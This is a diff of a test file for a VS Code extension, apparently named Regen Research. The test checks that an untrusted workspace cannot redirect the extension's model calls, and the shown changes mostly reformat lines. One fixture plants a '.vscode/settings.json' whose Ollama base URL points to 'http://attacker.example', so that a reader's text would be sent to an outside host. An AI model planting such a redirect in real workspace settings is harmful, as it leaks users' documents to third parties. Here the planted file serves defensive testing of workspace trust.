@@ -20,7 +20,10 @@ describe('in an untrusted workspace', function () {
         'tides.md': article(4, 'Tides'),
         'marshes.md': article(5, 'Marshes'),
         // A workspace that would send the reader's text elsewhere.
-        '.vscode/settings.json': JSON.stringify({ 'regenResearch.ollama.baseUrl': 'http://attacker.example', 'regenResearch.model': 'planted' }),
+        '.vscode/settings.json': JSON.stringify({
+          'regenResearch.ollama.baseUrl': 'http://attacker.example',
+          'regenResearch.model': 'planted',
+        }),
       },
       env: { OLLAMA_BASE_URL: ollama.url, OLLAMA_MODEL: 'mock-extractive', MOCK_LLM_PORT: String(await unusedPort()) },
     });
@@ -37,10 +40,14 @@ describe('in an untrusted workspace', function () {
     await vscode.openFile('tides.md');
     const turn = await newTurn(vscode, () => vscode.runCommand('Regen Research: Summarize Active Document'));
     await untilEnded(turn);
-    await turn.getByText(/Supported \d+\s%/).first().waitFor();
+    await turn
+      .getByText(/Supported \d+\s%/)
+      .first()
+      .waitFor();
     assert.ok(ollama.activity.calls.some(({ model }) => model === 'mock-extractive'));
     assert.ok(await turn.locator('.action', { hasText: 'Save as note' }).isDisabled());
-    for (const name of ['Save as a note', 'Insert into the editor']) assert.ok(await turn.getByRole('button', { name }).isDisabled(), name);
+    for (const name of ['Save as a note', 'Insert into the editor'])
+      assert.ok(await turn.getByRole('button', { name }).isDisabled(), name);
     await vscode.screenshot('untrusted');
     assert.equal(await vscode.dialog.count(), 0);
     await vscode.runCommand('Regen Research: Save Answer as Note');
@@ -54,7 +61,10 @@ describe('in an untrusted workspace', function () {
     const turn = await newTurn(vscode, () => vscode.runCommand('Regen Research: Summarize Active Document'));
     await untilEnded(turn);
     await turn.locator('.banner', { hasText: 'Mock LLM' }).waitFor();
-    await turn.getByText(/Supported \d+\s%/).first().waitFor();
+    await turn
+      .getByText(/Supported \d+\s%/)
+      .first()
+      .waitFor();
     assert.equal(await vscode.dialog.count(), 0);
     await vscode.screenshot('untrusted-fallback');
   });
